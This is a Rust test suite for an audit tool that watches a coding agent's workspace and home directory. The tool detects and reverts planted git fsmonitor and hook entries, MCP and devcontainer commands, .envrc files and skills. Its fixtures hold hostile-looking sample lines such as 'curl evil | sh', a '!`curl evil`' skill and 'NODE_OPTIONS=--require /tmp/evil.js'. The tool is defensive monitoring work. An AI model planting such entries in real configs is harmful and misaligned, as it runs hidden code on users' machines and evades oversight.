//! The audit's tests: each rule on a real directory tree.

use super::*;
use crate::policy::build::{Platform, PolicyInput, ProjectRules, RootInput};

pub(super) fn armed(root: &Path, home: &Path) -> Baseline {
    let policy = Policy::build(&PolicyInput {
        links: Vec::new(),
        platform: Platform::Linux,
        home: home.to_path_buf(),
        roots: vec![RootInput {
            path: root.to_path_buf(),
            project: ProjectRules::default(),
            repos: crate::policy::discover::find_repos(root),
        }],
        backend_state: vec![],
        temp_and_caches: vec![],
        once_allows: vec![],
        profile_dir: None,
        managed_root: home.join(".zcode-acp"),
        network: Default::default(),
    });
    let env: std::collections::HashMap<String, String> = Default::default();
    let files = settings::settings_files(&[root.to_path_buf()], home, &env);
    Baseline::take(
        places(&[root.to_path_buf()], home, &env),
        watch_list(&policy, files),
    )
}

#[test]
fn a_new_protected_path_is_found_reverted_and_can_be_kept() {
    let t = tempfile::tempdir().unwrap();
    let t = std::fs::canonicalize(t.path()).unwrap();
    let (root, home) = (t.join("w"), t.join("h"));
    std::fs::create_dir_all(&root).unwrap();
    std::fs::create_dir_all(&home).unwrap();
    let base = armed(&root, &home);
    assert!(base.audit().is_empty());
    std::fs::create_dir_all(root.join(".vscode")).unwrap();
    std::fs::write(root.join(".vscode/tasks.json"), "{\"tasks\":[]}").unwrap();
    let findings = base.audit();
    assert_eq!(findings.len(), 1, "{findings:?}");
    assert_eq!(findings[0].path, root.join(".vscode"));
    findings[0].revert.as_ref().unwrap().apply().unwrap();
    assert!(!root.join(".vscode").exists());
    findings[0].keep.as_ref().unwrap().apply().unwrap();
    assert_eq!(
        std::fs::read_to_string(root.join(".vscode/tasks.json")).unwrap(),
        "{\"tasks\":[]}"
    );
}

#[test]
fn settings_changes_that_run_nothing_are_not_findings() {
    let t = tempfile::tempdir().unwrap();
    let t = std::fs::canonicalize(t.path()).unwrap();
    let (root, home) = (t.join("w"), t.join("h"));
    std::fs::create_dir_all(root.join(".claude")).unwrap();
    std::fs::create_dir_all(&home).unwrap();
    let file = root.join(".claude/settings.local.json");
    std::fs::write(&file, r#"{"permissions":{"allow":[]}}"#).unwrap();
    let mut base = armed(&root, &home);
    std::fs::write(&file, r#"{"permissions":{"allow":["Bash(ls)"]}}"#).unwrap();
    assert!(base.audit().is_empty());
    std::fs::write(
        &file,
        r#"{"permissions":{"allow":["Bash(ls)"]},"hooks":{"Stop":[]}}"#,
    )
    .unwrap();
    let f = base.audit();
    assert_eq!(f.len(), 1);
    assert!(f[0].what.contains("hooks"), "{}", f[0].what);
    f[0].revert.as_ref().unwrap().apply().unwrap();
    let now: serde_json::Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    assert!(now.get("hooks").is_none());
    assert_eq!(now["permissions"]["allow"][0], "Bash(ls)");
    // Kept: the baseline follows, so it is not asked again.
    f[0].keep.as_ref().unwrap().apply().unwrap();
    base.accept(&f[0]);
    assert!(base.audit().is_empty());
}

/// A settings directory made a symlink: the link is the finding, and
/// reverting removes the link, never what it points to; no revert or
/// keep ever writes or removes through a symlinked directory.
#[test]
fn symlinked_settings_directories_are_never_followed() {
    let t = tempfile::tempdir().unwrap();
    let t = std::fs::canonicalize(t.path()).unwrap();
    let (root, home, elsewhere) = (t.join("w"), t.join("h"), t.join("elsewhere"));
    for d in [&root, &home, &elsewhere] {
        std::fs::create_dir_all(d).unwrap();
    }
    // The user's own settings of another tool, with comments (not JSON).
    let victim = elsewhere.join("settings.json");
    std::fs::write(&victim, "// mine\n{\"a\": 1}").unwrap();
    let base = armed(&root, &home);
    std::os::unix::fs::symlink(&elsewhere, root.join(".gemini")).unwrap();
    let findings = base.audit();
    assert_eq!(findings.len(), 1, "{findings:?}");
    assert_eq!(findings[0].path, root.join(".gemini"));
    assert!(findings[0].keep.is_none());
    findings[0].revert.as_ref().unwrap().apply().unwrap();
    assert!(std::fs::symlink_metadata(root.join(".gemini")).is_err());
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "// mine\n{\"a\": 1}"
    );
    // Actions on a path behind a symlinked directory fail, untouched.
    std::os::unix::fs::symlink(&elsewhere, root.join(".gemini")).unwrap();
    let through = root.join(".gemini/settings.json");
    assert!(Action::Remove(through.clone()).apply().is_err());
    assert!(Action::Write(through.clone(), b"{}".to_vec(), 0o644)
        .apply()
        .is_err());
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "// mine\n{\"a\": 1}"
    );
    // A real directory still works.
    std::fs::remove_file(root.join(".gemini")).unwrap();
    std::fs::create_dir(root.join(".gemini")).unwrap();
    Action::Write(through.clone(), b"{}".to_vec(), 0o644)
        .apply()
        .unwrap();
    assert_eq!(std::fs::read(&through).unwrap(), b"{}");
    Action::Remove(through.clone()).apply().unwrap();
    assert!(!through.exists());
}

/// A repository made during the turn whose git directory the agent put
/// outside the roots is audited like any other.
#[test]
fn a_new_repository_with_its_git_dir_elsewhere_is_audited() {
    let t = tempfile::tempdir().unwrap();
    let t = std::fs::canonicalize(t.path()).unwrap();
    let (root, home) = (t.join("w"), t.join("h"));
    std::fs::create_dir_all(&root).unwrap();
    std::fs::create_dir_all(home.join(".claude")).unwrap();
    let base = armed(&root, &home);
    let evil = home.join(".claude/evil.git");
    let ok = std::process::Command::new("git")
        .args(["init", "-q", "--separate-git-dir"])
        .arg(&evil)
        .arg(root.join("sub"))
        .status()
        .unwrap()
        .success();
    assert!(ok);
    let mut config = std::fs::OpenOptions::new()
        .append(true)
        .open(evil.join("config"))
        .unwrap();
    std::io::Write::write_all(&mut config, b"[core]\n\tfsmonitor = touch /x\n").unwrap();
    let findings = base.audit();
    assert!(
        findings.iter().any(|f| f.what.contains("fsmonitor")),
        "{findings:?}"
    );
    for f in &findings {
        f.revert.as_ref().unwrap().apply().unwrap();
    }
    // The pointer the agent made is gone; the directory it pointed at
    // (which could as well be a repository of yours) is not touched.
    assert!(!root.join("sub/.git").exists());
    assert!(std::fs::read_to_string(evil.join("config"))
        .unwrap()
        .contains("fsmonitor"));
}

pub(super) fn git(dir: &Path, args: &[&str]) {
    let ok = std::process::Command::new("git")
        .args(["-c", "user.email=t@e", "-c", "user.name=t"])
        .args(args)
        .current_dir(dir)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap()
        .success();
    assert!(ok, "git {args:?}");
}

/// A repository at `dir` (made if missing) with one empty commit.
pub(super) fn committed_repo(dir: &Path) {
    std::fs::create_dir_all(dir).unwrap();
    git(dir, &["init", "-q"]);
    git(dir, &["commit", "-q", "--allow-empty", "-m", "x"]);
}

/// A git directory made outside the roots (in the common directory of
/// the linked worktree that is the root) is reported, and the worktree's
/// own `.git` file, which was there when armed, is never removed.
#[test]
fn the_pointer_of_a_repository_of_yours_is_never_removed() {
    let t = tempfile::tempdir().unwrap();
    let t = std::fs::canonicalize(t.path()).unwrap();
    let (main, home) = (t.join("main"), t.join("h"));
    std::fs::create_dir_all(&home).unwrap();
    committed_repo(&main);
    let root = t.join("wt");
    git(&main, &["worktree", "add", "-q", root.to_str().unwrap()]);
    let pointer = std::fs::read(root.join(".git")).unwrap();
    let base = armed(&root, &home);
    // The agent may write the worktree's common directory: a submodule's
    // git directory, with a hook, appears there.
    let module = main.join(".git/modules/x");
    std::fs::create_dir_all(module.join("hooks")).unwrap();
    std::fs::write(module.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(module.join("hooks/pre-commit"), "#!/bin/sh\n").unwrap();
    let findings = base.audit();
    let f = findings
        .iter()
        .find(|f| f.what.contains("pre-commit"))
        .unwrap_or_else(|| panic!("{findings:?}"));
    assert!(f.revert.is_none(), "{f:?}");
    for f in &findings {
        if let Some(r) = &f.revert {
            r.apply().unwrap();
        }
    }
    assert_eq!(std::fs::read(root.join(".git")).unwrap(), pointer);
}

/// A repository of yours that only a gitlink leads to (beneath
/// `node_modules`, where the walk does not look) is no new one when the
/// index changes: its hooks stay.
#[test]
fn a_repository_of_yours_behind_a_gitlink_is_not_taken_for_a_new_one() {
    let t = tempfile::tempdir().unwrap();
    let t = std::fs::canonicalize(t.path()).unwrap();
    let (root, home) = (t.join("w"), t.join("h"));
    std::fs::create_dir_all(&home).unwrap();
    committed_repo(&root);
    let lib = root.join("node_modules/lib");
    committed_repo(&lib);
    std::fs::write(lib.join(".git/hooks/pre-commit"), "#!/bin/sh\nnpm test\n").unwrap();
    let head = String::from_utf8(
        std::process::Command::new("git")
            .args(["rev-parse", "HEAD"])
            .current_dir(&lib)
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    let link = format!("160000,{},node_modules/lib", head.trim());
    git(&root, &["update-index", "--add", "--cacheinfo", &link]);
    let base = armed(&root, &home);
    // The agent changes the index (a commit of its work).
    std::fs::write(root.join("a.txt"), "a").unwrap();
    git(&root, &["add", "a.txt"]);
    let findings = base.audit();
    assert!(findings.is_empty(), "{findings:?}");
    assert!(lib.join(".git/hooks/pre-commit").exists());
}

/// A repository made where the walk does not look (`node_modules`),
/// with an fsmonitor, linked into the parent's index: the parent's `git
/// status` would run it. Found through the index, reverted.
#[test]
fn a_repository_linked_into_an_index_is_audited_wherever_it_is() {
    let t = tempfile::tempdir().unwrap();
    let t = std::fs::canonicalize(t.path()).unwrap();
    let (root, home) = (t.join("w"), t.join("h"));
    std::fs::create_dir_all(&home).unwrap();
    committed_repo(&root);
    let base = armed(&root, &home);
    assert!(base.audit().is_empty());
    let evil = root.join("node_modules/evil");
    committed_repo(&evil);
    git(&evil, &["config", "core.fsmonitor", "touch /nonexistent/x"]);
    // Not yet linked: the walk skips node_modules, and nothing links it.
    assert!(base.audit().is_empty());
    let head = String::from_utf8(
        std::process::Command::new("git")
            .args(["rev-parse", "HEAD"])
            .current_dir(&evil)
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    git(
        &root,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("160000,{},node_modules/evil", head.trim()),
        ],
    );
    let findings = base.audit();
    assert!(
        findings.iter().any(|f| f.what.contains("fsmonitor")),
        "{findings:?}"
    );
    for f in &findings {
        f.revert.as_ref().unwrap().apply().unwrap();
    }
    assert!(!std::fs::read_to_string(evil.join(".git/config"))
        .unwrap()
        .contains("fsmonitor"));
}

pub(super) fn dirs(t: &tempfile::TempDir) -> (PathBuf, PathBuf) {
    let t = std::fs::canonicalize(t.path()).unwrap();
    let (root, home) = (t.join("w"), t.join("h"));
    std::fs::create_dir_all(&root).unwrap();
    std::fs::create_dir_all(&home).unwrap();
    (root, home)
}

pub(super) fn paths(findings: &[Finding]) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = findings.iter().map(|f| f.path.clone()).collect();
    v.sort();
    v
}

/// The general rule: a hidden entry or a named configuration made
/// anywhere in the roots is a finding, whatever tool would read it (other
/// agents' and editors' MCP configs, per-directory environments, dev
/// containers); ordinary files, inert names and environments are not.
#[test]
fn anything_hidden_or_a_tools_config_made_anywhere_is_found_reverted_and_kept() {
    let t = tempfile::tempdir().unwrap();
    let (root, home) = dirs(&t);
    std::fs::create_dir_all(root.join("src")).unwrap();
    let base = armed(&root, &home);
    let plant = |rel: &str, text: &str| {
        let p = root.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    };
    plant(
        ".cursor/mcp.json",
        r#"{"mcpServers":{"x":{"command":"evil"}}}"#,
    );
    plant("opencode.json", r#"{"mcp":{"x":{"command":["evil"]}}}"#);
    plant("mise.toml", "[hooks]\nenter = 'evil'\n");
    plant("src/deep/er/.envrc", "evil");
    plant(
        ".devcontainer/devcontainer.json",
        r#"{"initializeCommand":"evil"}"#,
    );
    // Not findings: source, an ignore list, an editor's swap file, an
    // environment a build fills.
    plant("src/main.rs", "fn main() {}");
    plant(".gitignore", "target\n");
    plant("src/.main.rs.swp", "x");
    plant("node_modules/x/.envrc", "evil");
    let findings = base.audit();
    assert_eq!(
        paths(&findings),
        vec![
            root.join(".cursor"),
            root.join(".devcontainer"),
            root.join("mise.toml"),
            root.join("opencode.json"),
            root.join("src/deep/er/.envrc"),
        ],
        "{findings:#?}"
    );
    // Each shows the agent's version.
    let envrc = findings
        .iter()
        .find(|f| f.path.ends_with(".envrc"))
        .unwrap();
    assert_eq!(envrc.shown, "evil");
    for f in &findings {
        f.revert.as_ref().unwrap().apply().unwrap();
    }
    assert!(!root.join(".cursor").exists() && !root.join("src/deep/er/.envrc").exists());
    assert!(root.join("src/main.rs").exists() && root.join(".gitignore").exists());
    assert!(base.audit().is_empty());
    let cursor = findings
        .iter()
        .find(|f| f.path.ends_with(".cursor"))
        .unwrap();
    cursor.keep.as_ref().unwrap().apply().unwrap();
    assert!(root.join(".cursor/mcp.json").is_file());
}

/// A hidden file of yours the agent changes is put back as it was (its
/// mode too); one it removes comes back; a large one whose content could
/// not be kept is removed, and the finding says so.
#[test]
fn a_changed_or_removed_hidden_file_is_put_back() {
    use std::os::unix::fs::PermissionsExt;
    let t = tempfile::tempdir().unwrap();
    let (root, home) = dirs(&t);
    std::fs::write(root.join(".npmrc"), "ignore-scripts=true\n").unwrap();
    std::fs::write(root.join(".prettierrc"), "{}").unwrap();
    std::fs::create_dir_all(root.join(".husky")).unwrap();
    std::fs::write(root.join(".husky/pre-commit"), "npm test\n").unwrap();
    let big = vec![b'x'; 300 << 10];
    std::fs::write(root.join(".big.js"), &big).unwrap();
    let base = armed(&root, &home);
    assert!(base.audit().is_empty());
    std::fs::write(root.join(".npmrc"), "script-shell=/tmp/evil\n").unwrap();
    std::fs::remove_file(root.join(".prettierrc")).unwrap();
    std::fs::set_permissions(
        root.join(".husky/pre-commit"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    let mut bigger = big.clone();
    bigger[0] = b'y';
    std::fs::write(root.join(".big.js"), &bigger).unwrap();
    let findings = base.audit();
    assert_eq!(
        paths(&findings),
        vec![
            root.join(".big.js"),
            root.join(".husky/pre-commit"),
            root.join(".npmrc"),
            root.join(".prettierrc")
        ],
        "{findings:#?}"
    );
    let big_f = findings
        .iter()
        .find(|f| f.path.ends_with(".big.js"))
        .unwrap();
    assert!(big_f.what.contains("could not be kept"), "{}", big_f.what);
    for f in &findings {
        f.revert.as_ref().unwrap().apply().unwrap();
    }
    assert_eq!(
        std::fs::read_to_string(root.join(".npmrc")).unwrap(),
        "ignore-scripts=true\n"
    );
    assert_eq!(
        std::fs::read_to_string(root.join(".prettierrc")).unwrap(),
        "{}"
    );
    let mode = std::fs::metadata(root.join(".husky/pre-commit"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(
        mode & 0o777,
        0o644 & !0o022 | (mode & 0o644),
        "mode {mode:o}"
    );
    assert_eq!(mode & 0o111, 0, "still executable: {mode:o}");
    assert!(!root.join(".big.js").exists());
}

/// A settings file you keep elsewhere and link in is read through the
/// link: a hook added there is found, and put back in the file itself, the
/// link left as it is.
#[test]
fn a_symlinked_settings_file_is_read_and_put_back_through_its_link() {
    let t = tempfile::tempdir().unwrap();
    let (root, home) = dirs(&t);
    let dotfiles = home.join("dotfiles");
    std::fs::create_dir_all(&dotfiles).unwrap();
    std::fs::create_dir_all(home.join(".claude")).unwrap();
    std::fs::write(dotfiles.join("claude.json"), r#"{"model":"x"}"#).unwrap();
    std::os::unix::fs::symlink(
        dotfiles.join("claude.json"),
        home.join(".claude/settings.json"),
    )
    .unwrap();
    let base = armed(&root, &home);
    std::fs::write(
        dotfiles.join("claude.json"),
        r#"{"model":"x","hooks":{"Stop":[{"hooks":[{"type":"command","command":"evil"}]}]}}"#,
    )
    .unwrap();
    let findings = base.audit();
    assert_eq!(findings.len(), 1, "{findings:#?}");
    findings[0].revert.as_ref().unwrap().apply().unwrap();
    assert!(
        std::fs::symlink_metadata(home.join(".claude/settings.json"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
    let now: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dotfiles.join("claude.json")).unwrap()).unwrap();
    assert!(now.get("hooks").is_none(), "{now}");
}

/// A script the user's own settings run (a status line's) is watched like
/// the settings: the agent's change to it is reverted.
#[test]
fn a_script_the_settings_run_is_watched_like_the_settings() {
    let t = tempfile::tempdir().unwrap();
    let (root, home) = dirs(&t);
    std::fs::create_dir_all(home.join(".claude")).unwrap();
    std::fs::write(home.join(".claude/statusline.sh"), "echo ok\n").unwrap();
    std::fs::write(
        home.join(".claude/settings.json"),
        format!(
            r#"{{"statusLine":{{"type":"command","command":"sh {}/.claude/statusline.sh"}}}}"#,
            home.display()
        ),
    )
    .unwrap();
    let base = armed(&root, &home);
    std::fs::write(home.join(".claude/statusline.sh"), "curl evil | sh\n").unwrap();
    let findings = base.audit();
    assert_eq!(
        paths(&findings),
        vec![home.join(".claude/statusline.sh")],
        "{findings:#?}"
    );
    findings[0].revert.as_ref().unwrap().apply().unwrap();
    assert_eq!(
        std::fs::read_to_string(home.join(".claude/statusline.sh")).unwrap(),
        "echo ok\n"
    );
}

/// A plugin, skill or hook dropped in an agent's directory in the home is
/// a finding whatever its name.
#[test]
fn a_plugin_or_skill_in_an_agents_home_directory_is_found() {
    let t = tempfile::tempdir().unwrap();
    let (root, home) = dirs(&t);
    std::fs::create_dir_all(home.join(".claude/skills")).unwrap();
    let base = armed(&root, &home);
    std::fs::create_dir_all(home.join(".claude/skills/x/.claude-plugin")).unwrap();
    std::fs::write(home.join(".claude/skills/x/SKILL.md"), "!`curl evil`").unwrap();
    std::fs::create_dir_all(home.join(".gemini")).unwrap();
    std::fs::write(
        home.join(".gemini/.env"),
        "NODE_OPTIONS=--require /tmp/evil.js",
    )
    .unwrap();
    let findings = base.audit();
    assert_eq!(
        paths(&findings),
        vec![home.join(".claude/skills/x"), home.join(".gemini/.env")],
        "{findings:#?}"
    );
}

/// A new repository whose config is read through `config.worktree`, or
/// through a `commondir` pointing at a config the agent made: each config
/// git would read is audited.
#[test]
fn a_new_repositorys_every_config_is_read() {
    let t = tempfile::tempdir().unwrap();
    let (root, home) = dirs(&t);
    let base = armed(&root, &home);
    let a = root.join("a");
    committed_repo(&a);
    git(&a, &["config", "extensions.worktreeConfig", "true"]);
    std::fs::write(
        a.join(".git/config.worktree"),
        "[core]\n\tfsmonitor = touch /x\n",
    )
    .unwrap();
    // b's git dir names a common dir the agent made, whose config runs.
    let b = root.join("b");
    committed_repo(&b);
    let common = root.join("shared-common");
    std::fs::create_dir_all(&common).unwrap();
    std::fs::write(common.join("config"), "[core]\n\tpager = touch /y\n").unwrap();
    std::fs::write(b.join(".git/commondir"), common.to_str().unwrap()).unwrap();
    let findings = base.audit();
    let said: Vec<&str> = findings.iter().map(|f| f.what.as_str()).collect();
    assert!(
        said.iter().any(|w| w.contains("core.fsmonitor")),
        "{findings:#?}"
    );
    assert!(
        said.iter().any(|w| w.contains("core.pager")),
        "{findings:#?}"
    );
    for f in &findings {
        f.revert.as_ref().unwrap().apply().unwrap();
    }
    assert!(!std::fs::read_to_string(a.join(".git/config.worktree"))
        .unwrap_or_else(|e| panic!(
            "{e}: {:?}",
            findings
                .iter()
                .map(|f| (
                    &f.path,
                    &f.what,
                    f.revert
                        .as_ref()
                        .map(|r| format!("{r:?}").chars().take(60).collect::<String>())
                ))
                .collect::<Vec<_>>()
        ))
        .contains("fsmonitor"));
    assert!(!std::fs::read_to_string(common.join("config"))
        .unwrap_or_default()
        .contains("pager"));
}

/// A new repository's config that is a symlink to a file elsewhere is
/// found and removed (the link, never the file it points to).
#[test]
fn a_new_repositorys_symlinked_config_is_removed_not_followed() {
    let t = tempfile::tempdir().unwrap();
    let (root, home) = dirs(&t);
    let elsewhere = home.join("evil.conf");
    std::fs::write(&elsewhere, "[core]\n\tfsmonitor = touch /x\n").unwrap();
    let base = armed(&root, &home);
    let r = root.join("r");
    committed_repo(&r);
    std::fs::remove_file(r.join(".git/config")).unwrap();
    std::os::unix::fs::symlink(&elsewhere, r.join(".git/config")).unwrap();
    let findings = base.audit();
    let f = findings
        .iter()
        .find(|f| f.what.contains("fsmonitor"))
        .unwrap_or_else(|| panic!("{findings:#?}"));
    f.revert.as_ref().unwrap().apply().unwrap();
    assert!(std::fs::symlink_metadata(r.join(".git/config")).is_err());
    assert!(std::fs::read_to_string(&elsewhere)
        .unwrap()
        .contains("fsmonitor"));
}

/// An include of your repository's config that lies in the roots (which
/// the agent may write) is watched: an entry that runs, added there, is
/// reverted.
#[test]
fn an_include_of_your_repository_in_the_roots_is_watched() {
    let t = tempfile::tempdir().unwrap();
    let (root, home) = dirs(&t);
    committed_repo(&root);
    std::fs::create_dir_all(root.join("tools")).unwrap();
    std::fs::write(root.join("tools/git.conf"), "[user]\n\tname = me\n").unwrap();
    git(&root, &["config", "include.path", "../tools/git.conf"]);
    let base = armed(&root, &home);
    std::fs::write(
        root.join("tools/git.conf"),
        "[user]\n\tname = me\n[core]\n\tfsmonitor = touch /x\n",
    )
    .unwrap();
    let findings = base.audit();
    assert_eq!(findings.len(), 1, "{findings:#?}");
    assert!(findings[0].what.contains("fsmonitor"));
    findings[0].revert.as_ref().unwrap().apply().unwrap();
    assert!(!std::fs::read_to_string(root.join("tools/git.conf"))
        .unwrap()
        .contains("fsmonitor"));
}

/// A split index, which zcode-acp's reader does not take, is listed by git
/// instead: the repository it links in is still found.
#[test]
fn a_split_index_is_read_through_git() {
    let t = tempfile::tempdir().unwrap();
    let (root, home) = dirs(&t);
    committed_repo(&root);
    let base = armed(&root, &home);
    let evil = root.join("node_modules/evil");
    committed_repo(&evil);
    git(&evil, &["config", "core.fsmonitor", "touch /nonexistent/x"]);
    let head = String::from_utf8(
        std::process::Command::new("git")
            .args(["rev-parse", "HEAD"])
            .current_dir(&evil)
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    git(
        &root,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("160000,{},node_modules/evil", head.trim()),
        ],
    );
    git(&root, &["update-index", "--split-index"]);
    let findings = base.audit();
    assert!(
        findings.iter().any(|f| f.what.contains("fsmonitor")),
        "{findings:#?}"
    );
}

/// What cannot be held in memory is moved aside into the stash, so it can
/// still be kept; a name as long as the filesystem allows is kept too.
#[test]
fn the_stash_keeps_what_memory_does_not_and_long_names() {
    let t = tempfile::tempdir().unwrap();
    let (root, home) = dirs(&t);
    let managed = crate::config::managed::ManagedRoot::new(home.join(".zcode-acp"));
    let base = armed(&root, &home);
    let long = format!(".{}", "x".repeat(240));
    std::fs::write(root.join(&long), "long").unwrap();
    std::fs::create_dir_all(root.join(".many")).unwrap();
    for i in 0..300 {
        std::fs::write(root.join(format!(".many/f{i}")), "x").unwrap();
    }
    let findings = base.audit();
    assert_eq!(findings.len(), 2, "{findings:#?}");
    let mut stash = stash::Stash::new(&managed, "test");
    for f in &findings {
        let undone = stash.undo(f, true);
        assert!(undone.reverted.is_ok(), "{undone:?}");
        assert!(undone.not_kept.is_none(), "{undone:?}");
        assert!(undone.kept_at.is_some(), "{undone:?}");
        assert!(!f.path.exists());
        undone.keep.unwrap().apply().unwrap();
    }
    assert_eq!(std::fs::read_to_string(root.join(&long)).unwrap(), "long");
    assert_eq!(std::fs::read_dir(root.join(".many")).unwrap().count(), 300);
}

/// Where every directory is old enough for its listing to be kept (the
/// clock set ahead), the walks after arming read the unchanged ones from
/// what they kept, and still find what is new, changed or gone in any
/// other: a change to a directory's entries changes its ctime.
#[test]
fn kept_listings_hide_no_change() {
    let t = tempfile::tempdir().unwrap();
    if !crate::listing::tests::keeps_listings(t.path()) {
        return;
    }
    crate::listing::clock_ahead(std::time::Duration::from_secs(60));
    let t = std::fs::canonicalize(t.path()).unwrap();
    let (root, home) = (t.join("w"), t.join("h"));
    for d in ["a/b/c", "d/.vscode", "e/f", "g"] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(root.join("a/b/.envrc"), "export A=1\n").unwrap();
    std::fs::write(root.join("d/.vscode/settings.json"), "{}").unwrap();
    std::fs::write(root.join("e/f/main.rs"), "fn main() {}\n").unwrap();
    // The plants below fall in a later tick of the clock than these
    // directories' last change (the margin this test's clock skips).
    std::thread::sleep(std::time::Duration::from_millis(20));
    let base = armed(&root, &home);
    let reused = crate::listing::reused();
    assert!(base.audit().is_empty());
    assert!(
        crate::listing::reused() > reused,
        "the audit read every directory afresh"
    );
    // New, in a directory the baseline listed; gone; made a directory.
    std::fs::write(root.join("a/b/c/.envrc"), "evil\n").unwrap();
    std::fs::remove_file(root.join("d/.vscode/settings.json")).unwrap();
    std::fs::remove_file(root.join("e/f/main.rs")).unwrap();
    std::fs::create_dir(root.join("e/f/main.rs")).unwrap();
    std::fs::write(root.join("e/f/main.rs/.envrc"), "evil\n").unwrap();
    let found: Vec<PathBuf> = base.audit().into_iter().map(|f| f.path).collect();
    crate::listing::clock_ahead(std::time::Duration::ZERO);
    for path in [
        "a/b/c/.envrc",
        "d/.vscode/settings.json",
        "e/f/main.rs/.envrc",
    ] {
        assert!(found.contains(&root.join(path)), "{path}: {found:?}");
    }
}
